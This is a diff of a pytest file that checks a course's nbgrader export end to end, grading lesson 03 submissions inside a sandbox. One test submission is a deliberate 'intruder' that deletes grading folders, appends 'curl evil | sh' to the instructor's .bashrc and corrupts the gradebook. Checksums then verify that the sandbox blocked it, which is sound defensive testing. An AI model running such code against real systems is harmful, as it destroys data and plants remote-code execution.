@@ -1,23 +1,22 @@
 """The nbgrader export (``./course.sh nbgrader DIR``), checked against nbgrader itself.
 
-The quick tests read what the export writes for every lesson. The slow one installs
-nbgrader (requirements-nbgrader.txt) into its own environment, ``.cache/nbgrader-venv``
-(git-ignored, kept between runs and rebuilt when that file changes), because nbgrader
-adds its menus and server extensions to the JupyterLab it is installed beside, and the
-course's .venv is the learners' JupyterLab. nbgrader's "python3" kernel is pointed at
-this interpreter, as an instructor's hub image would have it. Then it runs
-``generate_assignment`` and ``autograde`` on three submissions of one lesson (all
-correct, untouched, one wrong answer) and compares each test cell's score with the
-verdict its check reported.
+The quick tests read what the export writes for every lesson. The slow one runs the
+instructor guide's nbgrader commands exactly as written, from the course folder, with
+an empty home: ``./course.sh nbgrader ~/grading`` installs nbgrader into
+``.venv-nbgrader`` (git-ignored, kept between runs and rebuilt when
+requirements-nbgrader.txt changes), ``source .venv-nbgrader/bin/activate`` puts it on
+the PATH, and ``generate_assignment``, ``autograde`` and ``export`` grade lesson 03 for
+four submissions (the solutions, the untouched copy, one wrong answer, and an intruder
+that attacks the instructor's files). Each test cell's score is compared with the
+verdict its check printed, and checksums prove the intruder changed nothing.
 """
 
 from __future__ import annotations
 
-import fcntl
 import json
 import os
 import re
-import shutil
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -32,9 +31,8 @@ from course_tools.lessons import find_exercises
 from course_tools.notebook_format import BEGIN_SOLUTION
 from course_tools.notebook_format import SOLUTION_ONLY_TAGS
 from course_tools.notebook_format import tags
+from course_tools.sandbox import sandbox_support
 
-VENV = ROOT / ".cache" / "nbgrader-venv"
-REQUIREMENTS = ROOT / "requirements-nbgrader.txt"
 GRADE_ID = re.compile(r"^[a-zA-Z0-9_-]+$")
 COURSE = CourseExercises()
 
@@ -152,44 +150,65 @@ def test_a_file_in_place_of_the_folder_is_one_clear_line(tmp_path, capsys):
 
 # -------------------------------------------------------------- nbgrader end to end
 
-
-def nbgrader_environment() -> Path:
-    """``.cache/nbgrader-venv`` with requirements-nbgrader.txt installed (cached)."""
-    VENV.parent.mkdir(exist_ok=True)
-    stamp = VENV / "installed-requirements.txt"
-    with open(VENV.parent / "nbgrader-venv.lock", "w") as lock:
-        fcntl.flock(lock, fcntl.LOCK_EX)
-        wanted = REQUIREMENTS.read_text()
-        if stamp.exists() and stamp.read_text() == wanted and (VENV / "bin" / "nbgrader").exists():
-            return VENV
-        shutil.rmtree(VENV, ignore_errors=True)
-        subprocess.run([sys.executable, "-m", "venv", str(VENV)], check=True)
-        pip = [str(VENV / "bin" / "python"), "-m", "pip", "install", "--quiet"]
-        installed = subprocess.run(
-            [*pip, "--disable-pip-version-check", "-r", str(REQUIREMENTS)],
-            capture_output=True,
-            text=True,
-        )
-        if installed.returncode != 0:
-            pytest.fail(
-                "could not install requirements-nbgrader.txt into "
-                f".cache/nbgrader-venv:\n{installed.stderr[-3000:]}"
-            )
-        stamp.write_text(wanted)
-    return VENV
+GUIDE_HEADER = ROOT / "instructors" / "guide-header.md"
+GRADING_VENV = ROOT / ".venv-nbgrader"  # what ./course.sh nbgrader installs
+LESSON = "03-custom-gradients"  # the guide's example
+VERDICT_LINE = re.compile(
+    r"^(?:✅|❌|⏳) Exercise (\d+\.\d+) \(.*\): (correct|not yet|not attempted yet)\."
+)
 
 
-def nbgrader(course: Path, environment: dict, *arguments: str) -> None:
-    done = subprocess.run(
-        [str(VENV / "bin" / "nbgrader"), *arguments],
-        cwd=course,
-        env=environment,
-        capture_output=True,
-        text=True,
-        timeout=900,
-    )
-    if done.returncode != 0 or "[AutogradeApp | ERROR]" in done.stderr:
-        pytest.fail(f"nbgrader {' '.join(arguments)} failed:\n{done.stderr[-4000:]}")
+def guide_commands() -> list[str]:
+    """The lines of the guide's nbgrader block, exactly as written."""
+    text = GUIDE_HEADER.read_text(encoding="utf-8")
+    section = text[text.index("## Grading with nbgrader") :]
+    return re.search(r"```bash\n(.*?)```", section, re.S).group(1).splitlines()
+
+
+def test_the_guide_grades_lesson_03_with_a_sandboxed_autograde():
+    lines = guide_commands()
+    assert lines[0].startswith("./course.sh nbgrader ~/grading")
+    assert lines[1].startswith("source .venv-nbgrader/bin/activate")
+    assert any(line.startswith(f"nbgrader autograde {LESSON}") for line in lines)
+    config = nbgrader_export.NBGRADER_CONFIG
+    assert "c.Autograde.autograde_preprocessors = autograde_steps()" in config
+    assert "c.SandboxedKernelManager.copy_working_folder = True" in config
+
+
+HAND_IN = r"""
+import json, sys
+from pathlib import Path
+import nbformat
+from course_tools.lessons import find_exercises
+
+lesson, intruder_code = sys.argv[1], json.loads(sys.argv[2])
+source = nbformat.read(Path("source", lesson, lesson + ".ipynb"), as_version=4)
+untouched = nbformat.read(Path("release", lesson, lesson + ".ipynb"), as_version=4)
+
+
+def answer_cells(nb):
+    return [c for c in nb.cells if c.cell_type == "code" and c.metadata["nbgrader"]["solution"]]
+
+
+wrong = nbformat.from_dict(json.loads(json.dumps(source)))
+target = next(f for f in find_exercises(wrong) if f.answer and f.answer.isidentifier())
+cell = next(
+    c for c in wrong.cells[target.heading_cell : target.check_cell] if c in answer_cells(wrong)
+)
+cell.source += (
+    f"\n\n_right_answer = {target.answer}\n\n"
+    f"def {target.answer}(*args, **kwargs):  # wrong: twice the right value\n"
+    f"    return 2 * _right_answer(*args, **kwargs)\n"
+)
+intruder = nbformat.from_dict(json.loads(json.dumps(source)))
+answer_cells(intruder)[0].source = intruder_code + "\n\n" + answer_cells(intruder)[0].source
+for student, nb in {
+    "correct": source, "untouched": untouched, "wrong": wrong, "intruder": intruder
+}.items():
+    folder = Path("submitted", student, lesson)
+    folder.mkdir(parents=True)
+    nbformat.write(nb, folder / (lesson + ".ipynb"))
+"""
 
 
 GRADEBOOK_SCRIPT = """
@@ -205,23 +224,84 @@ with Gradebook("sqlite:///gradebook.db") as gradebook:
 """
 
 
-def scores(course: Path, environment: dict, assignment: str) -> dict:
+def checksums(folder: Path) -> dict[str, str]:
+    import hashlib
+
+    return {
+        str(p): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """The guide's commands, run as written from the course folder, with ``~`` an empty
+    home; where the guide says to hand out and collect, four submissions are handed in:
+    the solutions, the untouched copy, one wrong answer, and an intruder that tries to
+    delete the course's nbgrader folders, scribble in the home and the gradebook."""
+    home = tmp_path_factory.mktemp("instructor-home")
+    (home / ".bashrc").write_text("# the instructor's shell settings\n")
+    grading = home / "grading"
+    intruder_code = (
+        "import shutil\n"
+        f"shutil.rmtree({str(grading / 'source')!r}, ignore_errors=True)\n"
+        f"shutil.rmtree({str(grading / 'release')!r}, ignore_errors=True)\n"
+        "for _name, _text in (\n"
+        f"    ({str(home / '.bashrc')!r}, 'curl evil | sh'),\n"
+        f"    ({str(grading / 'gradebook.db')!r}, 'junk'),\n"
+        "):\n"
+        "    try:\n"
+        "        open(_name, 'a').write(_text)\n"
+        "    except OSError:\n"
+        "        pass"
+    )
+    hand_in = home / "hand_in.py"
+    hand_in.write_text(HAND_IN)
+    lines = guide_commands()
+    hook = next(index for index, line in enumerate(lines) if line.startswith("#"))
+    lines[hook] = f'"$HAND_IN_PYTHON" "$HAND_IN" {LESSON} {shlex.quote(json.dumps(intruder_code))}'
+    environment = {k: v for k, v in os.environ.items() if not k.startswith("AUTODIFF_COURSE_")}
+    for name in ("VIRTUAL_ENV", "COURSE_VENV", "PYTHONPATH", "JUPYTER_PATH"):
+        environment.pop(name, None)
+    environment.update(
+        HOME=str(home),
+        # pip keeps using the machine's cache though the home is new
+        PIP_CACHE_DIR=os.environ.get("PIP_CACHE_DIR")
+        or str(Path(os.path.expanduser("~")) / ".cache" / "pip"),
+        HAND_IN=str(hand_in),
+        HAND_IN_PYTHON=sys.executable,
+    )
+    # Right after the hand-in, a copy of what autograde must leave alone (checksums).
+    lines.insert(
+        hook + 1, "mkdir ../protected-before && cp -r source release submitted ../protected-before"
+    )
+    script = "set -euo pipefail\n" + "\n".join(lines) + "\n"
     done = subprocess.run(
-        [str(VENV / "bin" / "python"), "-c", GRADEBOOK_SCRIPT, assignment],
-        cwd=course,
+        ["bash", "-c", script],
+        cwd=ROOT,
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=1800,
+    )
+    assert done.returncode == 0, f"{done.stdout[-3000:]}\n{done.stderr[-5000:]}"
+    assert "[AutogradeApp | ERROR]" not in done.stderr, done.stderr[-5000:]
+    result = subprocess.run(
+        [str(GRADING_VENV / "bin" / "python"), "-c", GRADEBOOK_SCRIPT, LESSON],
+        cwd=grading,
         env=environment,
         capture_output=True,
         text=True,
         check=True,
     )
-    return json.loads(done.stdout)
-
-
-def verdicts(course: Path, student: str, assignment: str) -> dict[str, str]:
-    """Exercise number -> status, as the checks reported them while autograde ran."""
-    report = course / "autograded" / student / assignment / "verdicts.jsonl"
-    records = [json.loads(line) for line in report.read_text().splitlines()]
-    return {record["exercise"]: record["status"] for record in records}
+    return {
+        "home": home,
+        "grading": grading,
+        "log": done.stderr,
+        "scores": json.loads(result.stdout),
+        "source": grading / "source" / LESSON / f"{LESSON}.ipynb",
+    }
 
 
 def autograded_cells(path: Path) -> list[tuple[str, str, int]]:
@@ -235,86 +315,21 @@ def autograded_cells(path: Path) -> list[tuple[str, str, int]]:
     ]
 
 
-def wrong_submission(source_nb):
-    """The solutions with the first exercise's answer deliberately doubled."""
-    nb = nbformat.from_dict(json.loads(json.dumps(source_nb)))
-    found = find_exercises(nb)
-    target = next(f for f in found if f.answer and f.answer.isidentifier())
-    cell = next(
-        cell
-        for cell in nb.cells[target.heading_cell : target.check_cell]
-        if cell.cell_type == "code" and cell.metadata["nbgrader"]["solution"]
-    )
-    cell.source += (
-        f"\n\n_right_answer = {target.answer}\n\n"
-        f"def {target.answer}(*args, **kwargs):  # wrong: twice the right value\n"
-        f"    return 2 * _right_answer(*args, **kwargs)\n"
-    )
-    return nb, target.number
-
-
-@pytest.fixture(scope="module")
-def graded(tmp_path_factory):
-    """Autograde three submissions of the first lesson whose solutions pass their
-    checks: lesson 01, unless its solutions are broken while someone reworks them."""
-    nbgrader_environment()
-    course = tmp_path_factory.mktemp("nbgrader-autograde")
-    kernels = course.parent / f"{course.name}-jupyter" / "kernels" / "python3"
-    kernels.mkdir(parents=True)
-    (kernels / "kernel.json").write_text(
-        json.dumps(
-            {
-                "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
-                "display_name": "Python 3 (the course's environment)",
-                "language": "python",
-            }
-        )
-    )
-    environment = {
-        key: value for key, value in os.environ.items() if not key.startswith("AUTODIFF_COURSE_")
-    }
-    environment.update(
-        PATH=f"{VENV / 'bin'}{os.pathsep}{os.environ.get('PATH', '')}",
-        JUPYTER_PATH=str(kernels.parent.parent),
-        # Relative: each kernel writes its verdicts beside the notebook it runs.
-        AUTODIFF_COURSE_REPORT="verdicts.jsonl",
-    )
-    passed_over = []
-    for lesson in [lesson for lesson in COURSE.lessons if COURSE.exercises(lesson)]:
-        name = lesson.slug
-        if not nbgrader_export.export(course, COURSE, [name], say=lambda line: None):
-            passed_over.append(f"{name}: not exported")
-            continue
-        source = course / "source" / name / lesson.filename
-        nbgrader(course, environment, "generate_assignment", name, "--force")
-        submissions = {
-            "correct": nbformat.read(source, as_version=4),
-            "untouched": nbformat.read(course / "release" / name / lesson.filename, as_version=4),
-        }
-        submissions["wrong"], wrong_exercise = wrong_submission(submissions["correct"])
-        for student, nb in submissions.items():
-            folder = course / "submitted" / student / name
-            folder.mkdir(parents=True)
-            nbformat.write(nb, folder / lesson.filename)
-        nbgrader(course, environment, "autograde", name)
-        statuses = verdicts(course, "correct", name)
-        if set(statuses.values()) == {"correct"} and len(statuses) == len(autograded_cells(source)):
-            break
-        passed_over.append(f"{name}: its solutions do not pass their checks ({statuses})")
-    else:
-        pytest.fail("no lesson's solutions pass their checks: " + "; ".join(passed_over))
-    return {
-        "course": course,
-        "lesson": name,
-        "source": source,
-        "passed_over": passed_over,
-        "wrong_exercise": wrong_exercise,
-        "scores": scores(course, environment, name),
-    }
+def verdicts(graded, student: str) -> dict[str, str]:
+    """Exercise number -> status, as each check printed it while autograde ran."""
+    path = graded["grading"] / "autograded" / student / LESSON / f"{LESSON}.ipynb"
+    found = {}
+    for cell in nbformat.read(path, as_version=4).cells:
+        for output in cell.get("outputs", []):
+            for line in output.get("text", "").splitlines():
+                match = VERDICT_LINE.match(line)
+                if match:
+                    found[match.group(1)] = match.group(2)
+    return found
 
 
 def expected_cells(graded, student: str) -> dict[str, float]:
-    statuses = verdicts(graded["course"], student, graded["lesson"])
+    statuses = verdicts(graded, student)
     return {
         grade_id: float(points) if statuses.get(number) == "correct" else 0.0
         for number, grade_id, points in autograded_cells(graded["source"])
@@ -324,6 +339,7 @@ def expected_cells(graded, student: str) -> dict[str, float]:
 def test_nbgrader_gives_full_marks_to_the_solutions(graded):
     result = graded["scores"]["correct"]
     total = sum(points for _, _, points in autograded_cells(graded["source"]))
+    assert set(verdicts(graded, "correct").values()) == {"correct"}
     assert result["max_score"] == total
     assert result["score"] == total
     assert result["cells"] == expected_cells(graded, "correct")
@@ -331,18 +347,39 @@ def test_nbgrader_gives_full_marks_to_the_solutions(graded):
 
 def test_nbgrader_gives_nothing_to_an_untouched_notebook(graded):
     result = graded["scores"]["untouched"]
-    statuses = verdicts(graded["course"], "untouched", graded["lesson"])
-    assert set(statuses.values()) == {"not attempted yet"}
+    assert set(verdicts(graded, "untouched").values()) == {"not attempted yet"}
     assert result["score"] == 0
     assert result["cells"] == expected_cells(graded, "untouched")
 
 
 def test_nbgrader_takes_off_the_points_of_a_wrong_answer(graded):
     result = graded["scores"]["wrong"]
-    statuses = verdicts(graded["course"], "wrong", graded["lesson"])
-    assert statuses[graded["wrong_exercise"]] == "not yet"
+    first = autograded_cells(graded["source"])[0]
+    assert verdicts(graded, "wrong")[first[0]] == "not yet"
     cells = expected_cells(graded, "wrong")
     assert result["cells"] == cells
-    assert result["score"] == sum(cells.values()) < result["max_score"]
-    lost = dict((number, points) for number, _, points in autograded_cells(graded["source"]))
-    assert result["max_score"] - result["score"] >= lost[graded["wrong_exercise"]]
+    assert result["score"] == sum(cells.values()) <= result["max_score"] - first[2]
+
+
+def test_autograde_runs_each_submission_in_the_sandbox(graded):
+    if not sandbox_support().available:
+        pytest.skip(f"no sandbox here: {sandbox_support().reason}")
+    assert "Each notebook runs in a sandbox (bubblewrap)" in graded["log"]
+
+
+def test_an_intruding_submission_changes_nothing_outside_its_temporary_folder(graded):
+    if not sandbox_support().available and not os.environ.get("CI"):
+        pytest.skip(f"no sandbox here: {sandbox_support().reason}")
+    home, grading = graded["home"], graded["grading"]
+    assert (home / ".bashrc").read_text() == "# the instructor's shell settings\n"
+    before = checksums(home / "protected-before")
+    after = {
+        k.replace(str(grading), str(home / "protected-before")): v
+        for k, v in {
+            **checksums(grading / "source"),
+            **checksums(grading / "release"),
+            **checksums(grading / "submitted"),
+        }.items()
+    }
+    assert after == before
+    assert graded["scores"]["intruder"]["score"] == graded["scores"]["correct"]["score"]
